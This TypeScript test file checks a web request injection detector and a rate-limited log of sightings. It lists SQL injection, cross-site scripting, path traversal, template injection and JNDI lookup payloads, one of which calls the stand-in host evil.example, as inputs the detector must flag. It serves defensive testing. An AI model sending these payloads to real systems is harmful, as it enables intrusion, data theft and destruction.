import { describe, expect, it } from 'vitest'
import { injectionIn } from '../../../src/access/injection.ts'
import { createSightings } from '../../../src/monitor/sightings.ts'

describe('what looks like an injection attempt', () => {
  it.each([
    ['?id=1%27%20OR%20%271%27=%271', 'sql'],
    ['?id=1+UNION+ALL+SELECT+password+FROM+users', 'sql'],
    ['?id=1;DROP%20TABLE%20users', 'sql'],
    ["?id=1'--", 'sql'],
    ['?id=pg_sleep(10)', 'sql'],
    ['?q=%3Cscript%3Ealert(1)%3C/script%3E', 'script'],
    ['?q=%253Cscript%253E', 'script'],
    ['?q=%22%20onerror%3Dalert(1)', 'script'],
    ['?file=..%2f..%2fetc%2fpasswd', 'path'],
    ['?file=%252e%252e%252fconfig', 'path'],
    ['?name=%7B%7B7*7%7D%7D', 'template'],
    ['?name=%24%7B7*7%7D', 'template'],
    ['?x=${jndi:ldap://evil.example/a}', 'lookup'],
    ['?x=%24%7b%6a%6e%64%69:ldap', 'lookup'],
    ['?x=${${::-j}ndi:rmi}', 'lookup'],
  ])('%s is seen as %s', (text, kind) => {
    expect(injectionIn(text)).toBe(kind)
  })

  it.each([
    '?q=rock+%27n%27+roll',
    '?q=select+a+union+rep',
    "?name=O'Brien&city=Saint%20John%27s",
    '?price=%2410&sort=-date',
    '?json=%7B%22a%22%3A1%7D',
    '?q=Tom%20%26%20Jerry%20(1940)',
    '/wiki/C%23/..foo',
    '?redirect=%2Fa%2Fb%3Fc%3Dd',
    '/caf%C3%A9',
    '',
  ])('%s is not', (text) => {
    expect(injectionIn(text)).toBe(null)
  })

  it('is looked for in the first 2,048 characters, whatever comes', () => {
    for (const bait of ["'", '%27', '${', '{{', '<%', '<', ' ', "' or ", 'union ', '%25', '../']) {
      const text = `?${bait.repeat(100_000)}`
      expect(injectionIn(text)).toBe(injectionIn(text.slice(0, 2048)))
    }
  })
})

describe('sightings', () => {
  it('are all counted, and three a minute of one address go on record, sixty of all', () => {
    let nowMs = 1_000_000
    const sightings = createSightings(() => nowMs)
    const recorded = (ip: string | null, times: number): number =>
      Array.from({ length: times }, () => sightings.see('sql', ip)).filter(Boolean).length
    expect(recorded('203.0.113.1', 10)).toBe(3)
    nowMs += 60_000
    expect(recorded('203.0.113.1', 10)).toBe(3)
    const many = Array.from({ length: 100 }, (_, index) => recorded(`198.51.100.${index}`, 2))
    expect(many.reduce((sum, rows) => sum + rows, 0)).toBe(57)
    expect(sightings.counts()).toMatchObject({ sql: 220, script: 0 })
  })
})
